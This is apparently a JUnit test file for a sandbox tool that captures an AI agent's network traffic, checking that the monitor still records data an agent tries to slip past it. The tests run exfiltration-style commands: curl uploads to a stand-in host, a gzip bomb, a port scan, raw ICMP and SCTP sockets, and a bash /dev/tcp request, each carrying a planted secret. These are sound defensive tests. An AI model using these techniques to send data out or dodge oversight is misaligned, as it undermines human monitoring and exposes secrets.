package dev.assize.sandbox.capture;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assize.sandbox.capture.flow.Body;
import dev.assize.sandbox.capture.flow.Flow;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What an agent may do to be overlooked, or to break what looks. */
@Tag("sandbox")
class HostilityTest {

  private static final String SECRET = "kX7mQ2vR9tLw4nZp8sDc";
  private static Namespaces namespaces;

  @BeforeAll
  static void enter() throws Exception {
    namespaces = new Namespaces();
  }

  @AfterAll
  static void leave() throws Exception {
    namespaces.close();
  }

  @Test
  void uploadsLargerThanTheHeapAllowsAreKeptToTheirLimit() throws Exception {
    Path file = namespaces.folder().resolve("big");
    Files.write(file, new byte[50 << 20]);
    Errand errand =
        with(8 << 20, 512, 60_000, "curl", "-sS", "-T", file.toString(), "https://up.example.com/");

    var visit = namespaces.run(errand).complete();

    Body body = visit.exchange().requestBody();
    assertThat(visit.report().output()).isEqualTo("{}");
    assertThat(body.size()).isEqualTo(50 << 20);
    assertThat(body.truncated()).isTrue();
    assertThat(Files.size(visit.folder().resolve(body.file()))).isEqualTo(8 << 20);
  }

  @Test
  void bombsUnpackToTheirLimit() throws Exception {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(SECRET.getBytes(StandardCharsets.US_ASCII));
      for (int i = 0; i < 100; i++) {
        gzip.write(new byte[1 << 20]);
      }
    }
    Path file = namespaces.folder().resolve("bomb.gz");
    Files.write(file, packed.toByteArray());

    var visit =
        namespaces
            .run(
                with(
                    4 << 20,
                    512,
                    60_000,
                    "curl",
                    "-sS",
                    "-H",
                    "Content-Encoding: gzip",
                    "--data-binary",
                    "@" + file,
                    "http://up.example.com/"))
            .complete();

    Body body = visit.exchange().requestBody();
    assertThat(body.truncated()).isFalse();
    assertThat(body.decoded().truncated()).isTrue();
    assertThat(body.decoded().size()).isGreaterThanOrEqualTo(4 << 20);
    assertThat(visit.text(body)).startsWith(SECRET);
  }

  @Test
  void scansOfTwoThousandPortsAreExplained() {
    var visit =
        namespaces
            .run(
                "/usr/bin/python3",
                "-c",
                """
                import socket
                for port in range(1, 2001):
                    s = socket.socket()
                    s.setblocking(False)
                    s.connect_ex(('203.0.113.7', port))
                    s.close()
                """)
            .complete();

    assertThat(visit.flows())
        .filteredOn(flow -> flow instanceof Flow.Attempt || flow instanceof Flow.Connection)
        .extracting(flow -> flow.destination().port())
        .containsAll(List.of(1, 53, 443, 2000))
        .hasSize(2000);
  }

  @Test
  void otherProtocolsAreUnexplained() {
    Errand errand =
        new Errand(
            "raw",
            List.of(
                "/usr/bin/python3",
                "-c",
                """
                import socket
                s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
                s.sendto(bytes([8, 0, 247, 255, 0, 0, 0, 0]), ('203.0.113.7', 0))
                s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 132)
                s.sendto(b'%s', ('203.0.113.7', 0))
                """
                    .formatted(SECRET)),
            List.of(),
            1 << 20,
            512,
            60_000,
            false);

    var visit = namespaces.run(errand);

    assertThat(visit.report().outcome().complete()).isFalse();
    assertThat(visit.report().outcome().gaps())
        .containsExactlyInAnyOrder(
            "1 × ICMP type 8 to 203.0.113.7", "1 × protocol 132 to 203.0.113.7");
  }

  @Test
  void theAgentCannotSendSuchThingsWithoutPower() {
    var visit =
        namespaces.run(
            "/usr/bin/python3",
            "-c",
            "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)");

    assertThat(visit.report().output()).contains("PermissionError");
    assertThat(visit.report().outcome().gaps()).isEmpty();
  }

  @Test
  void malformedRequestsAreKept() {
    var visit =
        namespaces
            .run(
                "bash",
                "-c",
                "exec 3<>/dev/tcp/203.0.113.9/80; printf 'GET / HTTP/1.1\\r\\nContent-Length: x"
                    + SECRET
                    + "\\r\\n\\r\\n"
                    + SECRET
                    + "' >&3; timeout 1 cat <&3")
            .complete();

    assertThat(visit.report().output()).startsWith("HTTP/1.1 400");
    assertThat(visit.text(visit.connection().sent())).contains(SECRET);
  }

  @Test
  void connectionsBeyondTheLimitMakeTheRunIncomplete() {
    Errand errand =
        with(
            1 << 20,
            3,
            60_000,
            "/usr/bin/python3",
            "-c",
            """
            import socket, time
            all = [socket.create_connection(('203.0.113.9', 80)) for i in range(6)]
            time.sleep(3)
            """);

    var visit = namespaces.run(errand);

    assertThat(visit.report().outcome().gaps()).contains("connections beyond 3 at once");
    assertThat(visit.flows(Flow.Connection.class))
        .filteredOn(connection -> !connection.content().observed())
        .hasSize(3);
  }

  @Test
  void slowClientsAreLeftAtTheirLimit() {
    Errand errand =
        with(
            1 << 20,
            512,
            1_000,
            "/usr/bin/python3",
            "-c",
            """
            import socket
            s = socket.create_connection(('203.0.113.9', 80))
            s.sendall(b'POST / HTTP/1.1\\r\\nContent-Length: 1000\\r\\n\\r\\n%s')
            print(s.recv(100))
            """
                .formatted(SECRET));

    var visit = namespaces.run(errand).complete();

    assertThat(visit.report().output()).isEqualTo("b''\n");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  private static Errand with(long bodyBytes, int connections, long idle, String... command) {
    Errand usual = namespaces.errand(command);
    return new Errand(usual.run(), usual.command(), List.of(), bodyBytes, connections, idle, true);
  }
}
